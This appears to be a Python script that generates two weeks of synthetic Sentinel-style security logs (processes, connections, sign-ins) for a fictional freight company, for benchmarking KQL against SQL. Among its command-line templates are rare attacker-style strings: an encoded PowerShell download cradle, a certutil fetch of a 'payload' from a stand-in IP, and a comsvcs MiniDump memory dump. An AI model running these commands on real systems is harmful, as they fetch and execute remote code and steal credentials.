"""Writes the tables that KQL and SQL are timed on: two weeks of an estate that does not exist, as Parquet.

    python rows.py FOLDER ROWS [streams]

Each table of events has ROWS rows, and they are the same each time: everything comes of the row's number by SplitMix64's finaliser. Names
are Microsoft Sentinel's; what is dynamic there is JSON in text, marked as Spoor marks it. With `streams` the files are Arrow's streams
in place of Parquet.
"""

import sys
from itertools import chain
from pathlib import Path

import numpy as np
import pyarrow as pa
import pyarrow.compute as pc
import pyarrow.parquet as pq

GROUP = 131_072
START = np.datetime64("2026-03-02T00:00:00", "us")
SPAN = 14 * 24 * 3600 * 1_000_000

USERS, DEVICES, DOMAINS, ADDRESSES = 5_000, 2_000, 4_000, 20_000
FIRST = ["anna", "bela", "carla", "david", "elif", "farid", "grete", "hiro", "ines", "jonas", "katya", "liam", "mona", "nils", "olga", "pavel"]
LAST = ["almeida", "brandt", "castellanos", "dvorak", "eriksen", "fontaine", "grigoriev", "haugen", "ivanova", "jansen", "kowalczyk", "lindqvist"]
APPS = ["Office 365 Exchange Online", "Microsoft Teams", "Azure Portal", "SharePoint Online", "Microsoft Azure CLI", "Graph Explorer", "Halden Cargo Desk"]
PLACES = ["NO", "SE", "DK", "DE", "NL", "GB", "FR", "PL", "ES", "US", "IN", "BR", "VN", "NG", "RU", "CN"]
RESULTS = ["0", "50126", "50074", "50053", "53003", "70044"]
SYSTEMS = ["Windows 11", "Windows 10", "MacOS 15", "Ios 19", "Android 16", "Linux"]
BROWSERS = ["Edge 141.0.3537", "Chrome 141.0.7390", "Firefox 144.0", "Mobile Safari", "Python Requests 2.32"]
POLICIES = ["Require MFA for all users", "Block legacy authentication", "Require compliant device", "Sign-in frequency for administrators"]
OUTCOMES = ["success", "failure", "notApplied", "reportOnlySuccess"]
AGENT = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36 Edg/141.0."

# A program, its command line in three pieces about two numbers, and how many of 1,000 rows have it.
COMMANDS = [
    ("svchost.exe", r"C:\Windows\System32\svchost.exe -k LocalServiceNetworkRestricted -p -s EventLog -t ", " --session ", "", 250),
    ("msedge.exe", r'"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --type=renderer --lang=nb --device-scale-factor=1 --renderer-client-id=', " --mojo-platform-channel-handle=", " --prefetch:1", 280),
    ("powershell.exe", r"powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\ProgramData\Halden\Agent\Tasks\Invoke-Inventory-", r".ps1 -LogPath C:\ProgramData\Halden\Logs\inventory-", ".log -Quiet", 160),
    ("schtasks.exe", r"schtasks.exe /create /tn HaldenUpdate", r" /tr C:\ProgramData\Halden\Agent\update-", ".exe /sc hourly", 90),
    ("curl.exe", "curl.exe --silent --retry 3 https://updates.halden-freight.example/agent/stable/package-", ".cab?client=", r" --output C:\Windows\Temp\package.cab", 130),
    ("cmd.exe", r'cmd.exe /c "net use \\fileserver', r".halden-freight.example\share /persistent:no && robocopy C:\Export \\fileserver\share\export-", ' /mir /r:2"', 80),
    ("powershell.exe", "powershell.exe -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA", "AEQAbwB3AG4AbABvAGEAZABTAHQAcgBpAG4AZwA", "==", 5),
    ("certutil.exe", "certutil.exe -urlcache -split -f http://203.0.113.7:8080/stage/payload-", r".bin C:\Users\Public\Libraries\update-", ".exe", 3),
    ("rundll32.exe", r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump ", r" C:\Users\Public\memory-", ".dmp full", 2),
]

DYNAMIC = ("AdditionalFields", "DeviceDetail", "ConditionalAccessPolicies")
MARK = {b"kusto.type": b"dynamic"}


def mix(numbers, salt):
    """SplitMix64's finaliser of each number, in a sequence of its own for each salt."""
    with np.errstate(over="ignore"):
        n = (numbers + np.uint64(salt) * np.uint64(0x1_0000_0000)) * np.uint64(0x9E3779B97F4A7C15)
        n = (n ^ (n >> np.uint64(30))) * np.uint64(0xBF58476D1CE4E5B9)
        n = (n ^ (n >> np.uint64(27))) * np.uint64(0x94D049BB133111EB)
        return n ^ (n >> np.uint64(31))


def below(numbers, salt, count):
    """A number below `count` for each row, all as often."""
    return mix(numbers, salt) % np.uint64(count)


def few(numbers, salt, count):
    """A number below `count` for each row, the low ones far more often, as it is with people and addresses."""
    share = (mix(numbers, salt) >> np.uint64(40)).astype(np.float64) / 2**24
    return (share * share * count).astype(np.uint64)


def pick(choices, index):
    return pa.array(choices, pa.string()).take(pa.array(index.astype(np.int64)))


def digits(numbers):
    return pa.array(numbers).cast(pa.string())


def joined(*parts):
    return pc.binary_join_element_wise(*parts, "")


def times(rows, total):
    return pa.array(START + (rows.astype(np.int64) * (SPAN // total)).astype("timedelta64[us]"))


def user_names():
    return [f"{FIRST[n % 16]}.{LAST[n // 16 % 12]}{n:04}@halden-freight.example" for n in range(USERS)]


def device_names():
    return [f"hf-{['ws', 'srv', 'kiosk'][n % 3]}-{n:04}.halden-freight.example" for n in range(DEVICES)]


def address_names():
    return [f"{[10, 172, 185, 203][n % 4]}.{n // 251 % 256}.{n % 251}.{n % 239 + 1}" for n in range(ADDRESSES)]


def domain_names():
    return [f"{['cdn', 'api', 'login', 'telemetry', 'www'][n % 5]}{n}.{LAST[n % 12]}-{FIRST[n % 16]}.example" for n in range(DOMAINS)]


def process_ids(rows):
    """The process of an event. A network event of the same number has the same one."""
    return pa.array((rows % np.uint64(60_000)).astype(np.int64) * 4 + 1_000)


def processes(rows, total):
    shares = np.repeat(np.arange(len(COMMANDS)), [command[4] for command in COMMANDS])
    kind = shares[below(rows, 1, 1_000)]
    program, before, between, after = ([command[part] for command in COMMANDS] for part in range(4))
    first, second = digits(below(rows, 2, 90_000)), digits(below(rows, 3, 9_000_000))
    device = below(rows, 4, DEVICES)
    hashes = [f"{mix(np.array([n], np.uint64), 5)[0]:016x}" * 4 for n in range(500)]
    fields = joined(
        '{"ThreatScore":', digits(below(rows, 6, 100)), ',"Signer":{"Name":"', pick(["Microsoft Windows", "Halden Freight AS", "Unsigned"], few(rows, 7, 3)),
        '","Valid":', pick(["true", "false"], few(rows, 8, 2)), '},"Tags":["endpoint","tier', digits(below(rows, 9, 3)), '"]}',
    )
    return {
        "TimeGenerated": times(rows, total),
        "DeviceName": pick(device_names(), device),
        "AccountName": pick(user_names(), few(rows, 10, USERS)),
        "FileName": pick(program, kind),
        "ProcessCommandLine": joined(pick(before, kind), first, pick(between, kind), second, pick(after, kind)),
        "ProcessId": process_ids(rows),
        "InitiatingProcessFileName": pick(["explorer.exe", "services.exe", "winword.exe", "outlook.exe", "HaldenAgent.exe"], few(rows, 11, 5)),
        "SHA256": pick(hashes, few(rows, 12, 500)),
        "AdditionalFields": fields,
    }


def connections(rows, total):
    return {
        "TimeGenerated": times(rows, total),
        "DeviceName": pick(device_names(), below(rows, 4, DEVICES)),
        "InitiatingProcessId": process_ids(rows),
        "RemoteIP": pick(address_names(), few(rows, 21, ADDRESSES)),
        "RemotePort": pa.array(np.array([443, 80, 8080, 53, 445, 22], np.int32)[few(rows, 22, 6)]),
        "RemoteUrl": pick(domain_names(), few(rows, 23, DOMAINS)),
        "BytesSent": pa.array(below(rows, 24, 2_000_000).astype(np.int64)),
    }


def signins(rows, total):
    policy = lambda n: joined(
        f'{{"id":"ca-0{n}","displayName":"{POLICIES[n]}","result":"', pick(OUTCOMES, below(rows, 40 + n, 4)), '"}'
    )
    device = joined(
        '{"deviceId":"', digits(below(rows, 31, 60_000)), '","operatingSystem":"', pick(SYSTEMS, few(rows, 32, 6)),
        '","browser":"', pick(BROWSERS, few(rows, 33, 5)), '","isCompliant":', pick(["true", "false"], few(rows, 34, 2)), ',"trustType":"Azure AD joined"}',
    )
    return {
        "TimeGenerated": times(rows, total),
        "UserPrincipalName": pick(user_names(), few(rows, 35, USERS)),
        "IPAddress": pick(address_names(), few(rows, 36, ADDRESSES)),
        "Location": pick(PLACES, few(rows, 37, len(PLACES))),
        "AppDisplayName": pick(APPS, few(rows, 38, len(APPS))),
        "ResultType": pick(RESULTS, few(rows, 39, len(RESULTS) * 4) // np.uint64(4)),
        "UserAgent": joined(AGENT, digits(below(rows, 45, 40))),
        "DeviceDetail": device,
        "ConditionalAccessPolicies": joined("[", policy(0), ",", policy(1), ",", policy(2), ",", policy(3), "]"),
    }


def table_of(columns):
    fields = [pa.field(name, values.type, metadata=MARK if name in DYNAMIC else None) for name, values in columns.items()]
    return pa.table(list(columns.values()), schema=pa.schema(fields))


def groups(make, total):
    """The rows of a table, as many at once as a row group has."""
    for start in range(0, total, GROUP):
        yield table_of(make(np.arange(start, min(start + GROUP, total), dtype=np.uint64), total))


def write(stem, tables, streams):
    first = next(tables)
    if streams:
        writer = pa.ipc.new_stream(f"{stem}.arrows", first.schema)
    else:
        writer = pq.ParquetWriter(f"{stem}.parquet", first.schema, compression="zstd")
    with writer:
        for table in chain([first], tables):
            writer.write_table(table, GROUP)


def main(folder, total, streams):
    folder.mkdir(parents=True, exist_ok=True)
    for name, make in [("DeviceProcessEvents", processes), ("DeviceNetworkEvents", connections), ("SigninLogs", signins)]:
        write(folder / name, groups(make, total), streams)
    known = table_of({"Domain": pa.array(domain_names()[: DOMAINS * 3 // 4])})
    write(folder / "KnownDomains", iter([known]), streams)


if __name__ == "__main__":
    main(Path(sys.argv[1]), int(sys.argv[2]), sys.argv[3:] == ["streams"])
